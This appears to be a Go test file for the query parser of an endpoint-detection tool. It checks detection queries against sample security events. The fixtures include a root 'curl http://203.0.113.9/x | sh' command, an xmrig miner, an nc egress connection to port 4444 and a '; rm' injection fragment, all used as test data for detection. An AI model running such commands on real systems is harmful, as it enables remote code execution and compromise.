package query

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cordon-edr/cordon/protocol/ecs"
)

func sampleEvents() map[string]*ecs.Event {
	ts := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)
	size := int64(4096)
	exit := 1
	return map[string]*ecs.Event{
		"miner": {Timestamp: ts, Event: ecs.Meta{Category: "process", Type: "start"}, Process: &ecs.Process{
			PID: 4242, Executable: "/tmp/.x/xmrig", Name: "xmrig", CommandLine: "/tmp/.x/xmrig -o pool:3333",
			Args: []string{"/tmp/.x/xmrig", "-o", "pool:3333"}, User: ecs.User{ID: "1000", Name: "alice"},
			Parent: &ecs.Parent{PID: 1, Executable: "/usr/bin/bash", Name: "bash"}, ExitCode: &exit,
		}},
		"rootcurl": {Timestamp: ts.Add(time.Hour), Event: ecs.Meta{Category: "process", Type: "start"}, Process: &ecs.Process{
			PID: 7, Executable: "/usr/bin/curl", Name: "curl", CommandLine: "curl http://203.0.113.9/x | sh",
			User: ecs.User{ID: "0", Name: "root"},
		}},
		"dropper": {Timestamp: ts, Event: ecs.Meta{Category: "file", Type: "creation"}, File: &ecs.File{
			Path: "/var/tmp/drop.bin", Name: "drop.bin", Directory: "/var/tmp", Size: &size,
			Hash: &ecs.Hash{SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
		}},
		"conn": {Timestamp: ts, Event: ecs.Meta{Category: "network", Type: "connection"},
			Process:     &ecs.Process{PID: 99, Executable: "/usr/bin/nc", Name: "nc"},
			Source:      &ecs.Endpoint{IP: "10.0.0.5", Port: 51000},
			Destination: &ecs.Endpoint{IP: "203.0.113.77", Port: 4444},
			Network:     &ecs.Network{Transport: "tcp", Type: "ipv4", Direction: "egress"},
		},
		"conn6": {Timestamp: ts, Event: ecs.Meta{Category: "network", Type: "connection"},
			Destination: &ecs.Endpoint{IP: "::ffff:203.0.113.8", Port: 443},
		},
	}
}

func TestMatch(t *testing.T) {
	evs := sampleEvents()
	tests := []struct {
		q    string
		want []string
	}{
		{`process.executable endswith "/xmrig" and user.name != "root"`, []string{"miner"}},
		{`process.executable endswith "/xmrig" and user.name == "alice"`, []string{"miner"}},
		{`file.hash.sha256 == "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"`, []string{"dropper"}},
		{`destination.ip in 203.0.113.0/24`, []string{"conn", "conn6"}},
		{`destination.ip in [198.51.100.1, 203.0.113.77]`, []string{"conn"}},
		{`destination.ip == 203.0.113.77`, []string{"conn"}},
		{`process.command_line contains "curl"`, []string{"rootcurl"}},
		{`process.name in ("nc", "curl")`, []string{"conn", "rootcurl"}},
		{`process.name matches "^(nc|xm)"`, []string{"conn", "miner"}},
		{`process.pid > 100`, []string{"miner"}},
		{`process.pid <= 99`, []string{"conn", "rootcurl"}},
		{`destination.port in [4444, 5555]`, []string{"conn"}},
		{`process.args == "-o"`, []string{"miner"}},
		{`file.size >= 4096 and file.path startswith "/var/tmp/"`, []string{"dropper"}},
		{`not event.category == "process"`, []string{"conn", "conn6", "dropper"}},
		{`NOT (event.category == "process" OR event.category == "file") and destination.port == 443`, []string{"conn6"}},
		{`@timestamp > 2024-05-01T12:30:00Z`, []string{"rootcurl"}},
		{`user.name != "root"`, []string{"miner"}}, // absent user: no match
		{`process.parent.executable == "/usr/bin/bash" and process.exit_code == 1`, []string{"miner"}},
		{`file.path == "/var/tmp/drop.bin" or process.name == "nc"`, []string{"conn", "dropper"}},
		{`network.direction == egress and network.transport == tcp`, []string{"conn"}},
	}
	for _, tt := range tests {
		q, err := Parse(tt.q)
		if err != nil {
			t.Errorf("Parse(%q): %v", tt.q, err)
			continue
		}
		var got []string
		for name, ev := range evs {
			if q.Match(ev) {
				got = append(got, name)
			}
		}
		slices.Sort(got)
		if !slices.Equal(got, tt.want) {
			t.Errorf("%q matched %v, want %v", tt.q, got, tt.want)
		}
	}
}

func TestErrors(t *testing.T) {
	tests := []struct {
		q   string
		pos int
		msg string
	}{
		{``, 1, "empty"},
		{`proces.name == "x"`, 1, `unknown field "proces.name" (did you mean "process.name"?)`},
		{`process.name = "x"`, 14, `unknown operator "="`},
		{`process.name is "x"`, 14, "expected an operator"},
		{`process.name == `, 17, "expected a value"},
		{`process.name == "x`, 17, "string not closed"},
		{`process.pid == abc`, 1, `"abc" is not a number`},
		{`destination.ip == 10.0.0.0/8`, 1, "not an IP address"},
		{`destination.ip in [10.0.0.0/33]`, 1, "not a CIDR"},
		{`process.name matches "("`, 1, "bad regular expression"},
		{`process.name > 3`, 1, "ordering takes numbers"},
		{`process.pid contains "1"`, 1, "number field"},
		{`(process.name == "x"`, 21, `expected ")"`},
		{`process.name == "x" process.pid == 1`, 21, `expected "and", "or"`},
		{`process.name in [a b]`, 20, `expected "," or the end of the list`},
		{`@timestamp > yesterday`, 1, "RFC 3339"},
		{`process.name == "x" and`, 24, "expected a field name"},
		{`process.name == "x" ; rm`, 21, "unexpected character"},
		{strings.Repeat("not ", MaxDepth+1) + `process.pid == 1`, 4*MaxDepth + 1, "nested deeper"},
	}
	for _, tt := range tests {
		_, err := Parse(tt.q)
		var qe *Error
		if !errors.As(err, &qe) {
			t.Errorf("Parse(%q) = %v, want a query error", tt.q, err)
			continue
		}
		if qe.Pos != tt.pos || !strings.Contains(qe.Msg, tt.msg) {
			t.Errorf("Parse(%q) = %v, want position %d and %q", tt.q, err, tt.pos, tt.msg)
		}
	}
}

func TestHints(t *testing.T) {
	q, err := Parse(`file.path startswith "/srv/a" and file.hash.sha256 == "ab" and process.name in [x, y] and destination.ip in [10.0.0.0/8]`)
	if err != nil {
		t.Fatal(err)
	}
	eq := q.Equalities()
	if !slices.Equal(eq["file.hash.sha256"], []string{"ab"}) || !slices.Equal(eq["process.name"], []string{"x", "y"}) || eq["destination.ip"] != nil {
		t.Errorf("Equalities = %v", eq)
	}
	if got := q.PathPrefixes(); !slices.Equal(got, []string{"/srv/a"}) {
		t.Errorf("PathPrefixes = %v", got)
	}
	q, _ = Parse(`file.path startswith "/srv/a" or process.name == "x"`)
	if len(q.Equalities()) != 0 || q.PathPrefixes() != nil {
		t.Errorf("an or gave hints: %v %v", q.Equalities(), q.PathPrefixes())
	}
}

func TestFieldsDocumented(t *testing.T) {
	// Every field is read without panicking from an empty event.
	for _, name := range FieldNames() {
		if _, ok := Value(&ecs.Event{}, name); ok {
			t.Errorf("%s present in an empty event", name)
		}
	}
}
